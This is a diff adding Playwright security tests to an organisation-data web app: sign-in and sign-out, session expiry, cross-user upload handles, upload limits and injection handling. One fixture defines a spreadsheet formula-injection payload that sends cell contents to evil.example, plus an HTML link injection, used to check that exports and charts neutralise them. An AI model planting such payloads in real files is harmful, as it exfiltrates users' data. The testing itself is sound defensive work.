@@ -95,7 +95,12 @@ def _upload(page, name, data):
         "#upload input[type=file]",
         files=[{"name": name, "mimeType": "application/octet-stream", "buffer": data}],
     )
-    page.wait_for_selector("#upload-message")
+    # Every message names the file: wait for this upload's.
+    page.wait_for_function(
+        "(n) => { const e = document.getElementById('upload-message');"
+        " return e && e.innerText.includes(n); }",
+        arg=name,
+    )
 
 
 def test_bad_upload_shows_errors_and_keeps_the_organization(web):
@@ -112,10 +117,11 @@ def test_bad_upload_shows_errors_and_keeps_the_organization(web):
     _upload(page, "huge.zip", b"0" * (1024 * 1024 + 10))
     assert "the limit is 1 MB" in page.inner_text("#upload-problems")
     assert page.inner_text("#org-name") == "healthcare-supplier"
+    assert p.errors == []
 
 
 def test_good_upload_switches_this_session_only(web):
-    p, other = web(), web()
+    p, other = web("alice"), web("bob")
     page = p.goto("/")
     _upload(page, "workshop.xlsx", (DATA / "workshop" / "workshop.xlsx").read_bytes())
     page.wait_for_function("() => document.getElementById('org-name').innerText === 'workshop'")
@@ -198,3 +204,124 @@ def test_sla_page_shows_the_promise_and_a_histogram(web):
     page.wait_for_selector("#sla-histogram .barlayer")
     assert "deliveries; median" in page.inner_text("#sla-stats")
     assert p.errors == []
+
+
+# ------------------------------------------------------------------ security
+def test_sign_in_is_required_and_sign_out_ends_it(web):
+    p = web(user=None)
+    page = p.page
+    page.goto(p.base + "/findings")
+    assert "/login" in page.url and page.locator("#org-name").count() == 0
+    p.sign_in("alice", "wrong password", next_path="/findings")
+    assert "Wrong user name or password" in page.inner_text("#login-error")
+    p.sign_in("alice", next_path="/findings")
+    page.wait_for_selector("#org-name:not(:empty)")
+    assert page.url.endswith("/findings") and page.inner_text("#user-name") == "alice"
+    page.click("#sign-out")
+    page.wait_for_url("**/login")
+    page.goto(p.base + "/")
+    assert "/login" in page.url
+
+
+def test_an_ended_session_goes_back_to_sign_in(web, app):
+    p = web("alice")
+    page = p.goto("/")
+    sid = page.evaluate("() => document.cookie")  # the session cookie is HttpOnly: not here
+    assert "orggraph_session" not in sid
+    app.server.extensions["orggraph_sessions"].end_all()
+    page.click("text=Department matrix")  # the next callback answers 401
+    page.wait_for_url("**/login?next=%2Fmatrix")
+
+
+def test_another_user_cannot_open_an_upload_by_its_handle(web):
+    alice, bob = web("alice"), web("bob")
+    page = alice.goto("/")
+    _upload(page, "workshop.xlsx", (DATA / "workshop" / "workshop.xlsx").read_bytes())
+    page.wait_for_function("() => document.getElementById('org-name').innerText === 'workshop'")
+    handle = page.evaluate("() => JSON.parse(sessionStorage.getItem('org-key'))")
+    assert handle and "workshop" not in handle and "/" not in handle
+    # Bob's tab is given Alice's handle (as if he had copied it) and reloads.
+    page2 = bob.goto("/")
+    page2.evaluate(f"() => sessionStorage.setItem('org-key', JSON.stringify({handle!r}))")
+    page2.reload()
+    page2.wait_for_selector("#org-name:not(:empty)")
+    page2.wait_for_function("() => JSON.parse(sessionStorage.getItem('org-key')) === 'default'")
+    assert page2.inner_text("#org-name") == "healthcare-supplier"
+    page2.wait_for_selector("#figure-people .figure-value")
+    assert page2.inner_text("#figure-people .figure-value") == "149"
+    assert bob.errors == [] and alice.errors == []
+
+
+def test_oversize_and_broken_uploads_keep_the_current_organization(web):
+    p = web()
+    page = p.goto("/")
+    _upload(page, "workshop.xlsx", (DATA / "workshop" / "workshop.xlsx").read_bytes())
+    page.wait_for_function("() => document.getElementById('org-name').innerText === 'workshop'")
+    # Over the limit: the browser does not send it, and the page says why.
+    _upload(page, "huge.xlsx", b"0" * (2 * 1024 * 1024))
+    assert "huge.xlsx was not loaded" in page.inner_text("#upload-message")
+    assert "the file is 2 MB; the limit is 1 MB" in page.inner_text("#upload-problems")
+    # A file that is not what it says it is.
+    _upload(page, "fake.xlsx", b"PK\x03\x04 not really a workbook")
+    assert "fake.xlsx was not loaded" in page.inner_text("#upload-message")
+    # The tab still shows the workshop, on every page.
+    assert page.inner_text("#org-name") == "workshop"
+    page.click("text=Overview")
+    page.wait_for_selector("#figure-departments .figure-value")
+    assert page.inner_text("#figure-departments .figure-value") == "12"
+    page.reload()
+    page.wait_for_function("() => document.getElementById('org-name').innerText === 'workshop'")
+    assert p.errors == []
+
+
+def _evil_sample() -> bytes:
+    """The sample, with a formula for a person's name and a link for a department's."""
+    import pandas as pd
+
+    folder = DATA / "healthcare-supplier"
+    units = pd.read_csv(folder / "units.csv", dtype=str, keep_default_na=False)
+    units.loc[units["id"] == "OPS-PLN", "name"] = FORMULA
+    units.loc[units["id"] == "SAL", "name"] = LINK
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("units.csv", units.to_csv(index=False))
+        for name in ("handoffs.csv", "deliveries.csv"):
+            zf.writestr(name, (folder / name).read_bytes())
+    return buf.getvalue()
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Dana")'
+LINK = '<a href="https://evil.example">Sales</a>'
+
+
+def test_formula_and_link_names_stay_inert(web, tmp_path):
+    import csv
+
+    p = web()
+    page = p.goto("/")
+    _upload(page, "evil.zip", _evil_sample())
+    page.wait_for_function("() => document.getElementById('org-name').innerText === 'evil'")
+    # The findings CSV: the name is text in a spreadsheet (leading quote), every field quoted.
+    page.click("text=Findings")
+    page.wait_for_selector("#findings-grid .ag-row")
+    with page.expect_download() as d:
+        page.click("#findings-csv")
+    path = tmp_path / "findings.csv"
+    d.value.save_as(path)
+    text = path.read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [c for r in rows for c in r]
+    assert "'" + FORMULA in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert text.startswith('"rank","kind"')
+    # The matrix: the department's name is its text, not a link.
+    page.click("text=Department matrix")
+    page.wait_for_selector("#matrix-graph .xtick text")
+    page.wait_for_timeout(300)
+    ticks = page.evaluate(
+        "() => Array.from(document.querySelectorAll('#matrix-graph .xtick text'))"
+        ".map(t => t.textContent)"
+    )
+    assert LINK in ticks, " | ".join(ticks)
+    assert page.locator("#matrix-graph svg a").count() == 0
+    assert p.dialogs == [] and p.errors == []
